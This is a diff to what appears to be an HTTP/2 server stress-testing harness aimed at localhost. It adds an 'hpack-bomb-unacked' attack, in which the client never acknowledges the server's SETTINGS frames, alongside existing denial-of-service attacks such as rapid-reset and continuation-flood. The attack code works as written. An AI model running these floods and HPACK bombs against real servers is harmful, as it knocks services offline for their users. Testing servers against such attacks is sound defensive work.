@@ -11,7 +11,7 @@ is opened again, as an attacker would.
         [--seconds 6] [--max-streams N]
 
 Attacks (ATTACKS below has one line on each): rapid-reset, stream-flood,
-continuation-flood, big-header, hpack-bomb, ping-flood, settings-flood,
+continuation-flood, big-header, hpack-bomb, hpack-bomb-unacked, ping-flood, settings-flood,
 empty-data-flood, zero-window, never-read, gzip-bomb, deflate-bomb
 (--inflated-mib), window-update-zero, data-after-end-stream,
 data-past-window, tiny-timeout, one-byte-data (--message-kib), churn,
@@ -86,12 +86,14 @@ class Connection:
     the server sent that is not yet parsed."""
 
     def __init__(self, port: int, deadline: float, settings=None, reads: bool = True,
-                 acks_pings: bool = True):
+                 acks_pings: bool = True, acks_settings: bool = True):
         self.deadline = deadline
         # A client that never reads does not acknowledge anything either;
-        # one that reads may still leave the server's PINGs unanswered.
+        # one that reads may still leave the server's PINGs or SETTINGS
+        # unanswered.
         self.reads = reads
         self.acks_pings = acks_pings
+        self.acks_settings = acks_settings
         self.pings = 0
         self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
@@ -156,7 +158,8 @@ class Connection:
             del self.inbound[:9 + length]
             if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                 self.apply_settings(frame.settings)
-                replies.append(SettingsFrame(0, flags=["ACK"]).serialize())
+                if self.acks_settings:
+                    replies.append(SettingsFrame(0, flags=["ACK"]).serialize())
             elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                 self.pings += 1
                 if self.acks_pings:
@@ -321,6 +324,7 @@ class Attack:
 
     settings = None
     reads = True
+    acks_settings = True
     streams_per_batch = STREAMS_PER_WRITE
 
     def __init__(self, port: int, **_):
@@ -401,6 +405,13 @@ class HpackBomb(Attack):
     def batch(self, conn, count):
         # Index 62 is the newest entry of the dynamic table: 0x80 | 62.
         return header_frames(conn.new_stream_id(), self.block + b"\xbe" * 4000, end_stream=True), 1
+
+
+class HpackBombUnacked(HpackBomb):
+    """The HPACK bomb from a client that never acknowledges the server's
+    SETTINGS, so never acknowledges the header-list limit they carry."""
+
+    acks_settings = False
 
 
 class PingFlood(Attack):
@@ -612,6 +623,7 @@ ATTACKS = {
     "continuation-flood": ContinuationFlood,
     "big-header": BigHeader,
     "hpack-bomb": HpackBomb,
+    "hpack-bomb-unacked": HpackBombUnacked,
     "ping-flood": PingFlood,
     "settings-flood": SettingsFlood,
     "empty-data-flood": EmptyDataFlood,
@@ -647,7 +659,8 @@ def run(attack: Attack, port: int, connections: int, seconds: float, max_streams
         conn.close()
 
     def connect():
-        conn = Connection(port, deadline, settings=attack.settings, reads=attack.reads)
+        conn = Connection(port, deadline, settings=attack.settings, reads=attack.reads,
+                          acks_settings=attack.acks_settings)
         totals["connections_opened"] += 1
         data, streams = attack.open(conn)
         if data and conn.send(data):
